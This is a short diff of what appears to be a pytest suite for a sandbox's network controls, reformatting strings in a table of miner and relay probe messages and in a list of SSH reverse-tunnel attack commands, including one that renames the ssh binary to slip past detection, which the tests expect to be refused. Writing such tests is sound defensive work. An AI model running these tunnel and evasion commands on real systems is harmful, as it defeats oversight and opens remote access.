@@ -66,7 +66,7 @@ VARIANTS = {
     "xmrig": json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": {
         "login": "WALLET", "pass": "x", "agent": "XMRig/6.21"}}) + "\n",
     "http-post": ("POST /rpc HTTP/1.1\r\nHost: relay.allowed.lab.test\r\nContent-Type: "
-                  "application/json\r\nContent-Length: %d\r\n\r\n" % len(SUBSCRIBE)) + SUBSCRIBE,
+                  f"application/json\r\nContent-Length: {len(SUBSCRIBE)}\r\n\r\n") + SUBSCRIBE,
     "late": "SLEEP" + SUBSCRIBE + "\n",  # silent for 0.8 s first
 }
 
@@ -230,8 +230,8 @@ def _trusted_key(lab: Lab, session: Session) -> None:
 @pytest.mark.parametrize("attack", [
     f"ssh {SSH_OPTS} -N -R 9000:localhost:22 root@{RELAY}",
     "ssh -F /workspace/notes.txt relay",
-    f"cp /usr/bin/ssh /workspace/helper && /workspace/helper {SSH_OPTS} -o 'remoteforward 9000 "
-    f"localhost:22' root@{RELAY} true",
+    (f"cp /usr/bin/ssh /workspace/helper && /workspace/helper {SSH_OPTS} "
+     f"-o 'remoteforward 9000 localhost:22' root@{RELAY} true"),
 ], ids=["ssh-R", "config-file", "renamed-lowercase"])
 def test_ssh_to_an_allowed_web_name_is_refused(
         lab: Lab, make_session: Callable[..., Session], attack: str) -> None:
